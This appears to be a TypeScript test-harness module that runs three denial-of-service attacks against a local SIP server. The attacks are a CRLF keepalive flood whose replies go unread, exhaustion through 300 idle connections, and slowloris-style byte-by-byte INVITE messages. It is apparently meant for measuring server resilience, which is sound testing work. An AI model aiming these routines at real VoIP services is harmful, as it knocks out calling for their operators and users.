import { createConnection, type Socket } from 'node:net';
import { offer, sipRequest } from './sip-messages.ts';
import { attackerAt, paced, wait, type Done, type Target } from './target.ts';

const PINGS = Buffer.from('\r\n\r\n'.repeat(4_096));
/** Per connection; what a server that reads no further takes stands in the kernel's buffers. */
const MOST_PING_BYTES = 10_000_000;

export function connectionsOf(count: number, port: number, localAddress: string): Socket[] {
  return Array.from({ length: count }, () => {
    const socket = createConnection({ host: '127.0.0.1', port, localAddress });
    socket.on('error', () => {}).on('data', () => {});
    return socket;
  });
}

/** Those that the server has neither refused nor closed. */
export const stillOpen = (sockets: readonly Socket[]): number =>
  sockets.filter((socket) => socket.readyState === 'open' && !socket.readableEnded).length;

/** RFC 5626 section 4.4.1: each double CRLF is answered by one; this client never reads the answers. */
export async function tcpPings({ sipPort, forMs }: Target): Promise<Done> {
  const sockets = connectionsOf(4, sipPort, attackerAt(12));
  let bytes = 0;
  for (const socket of sockets) {
    socket.pause();
    let own = 0;
    const fill = (): void => {
      while (own < MOST_PING_BYTES && !socket.destroyed) {
        own += PINGS.length;
        bytes += PINGS.length;
        if (!socket.write(PINGS)) return void socket.once('drain', fill);
      }
    };
    socket.on('connect', fill);
  }
  await wait(forMs);
  const waiting = sockets.reduce((sum, socket) => sum + socket.writableLength, 0);
  for (const socket of sockets) socket.destroy();
  return { takenBytes: bytes - waiting };
}

export async function idleTcpConnections({ sipPort, forMs }: Target): Promise<Done> {
  const sockets = connectionsOf(300, sipPort, attackerAt(13));
  await wait(forMs);
  const held = stillOpen(sockets);
  for (const socket of sockets) socket.destroy();
  return { tried: sockets.length, held };
}

/** An INVITE, a byte every 10 ms, on many connections at once. */
export async function slowTcpMessages({ sipPort, forMs }: Target): Promise<Done> {
  const address = attackerAt(14);
  const sockets = connectionsOf(50, sipPort, address);
  const source = { address, port: 5060 };
  const message = Buffer.from(
    sipRequest({ method: 'INVITE', source, port: sipPort, callId: 'slow', transport: 'TCP', body: offer(address, 9) }),
  );
  const sent = await paced(100, forMs, (nth) => {
    for (const socket of sockets)
      if (socket.readyState === 'open') socket.write(message.subarray(nth % message.length, (nth % message.length) + 1));
  });
  const held = stillOpen(sockets);
  for (const socket of sockets) socket.destroy();
  return { bytesEach: sent, held };
}
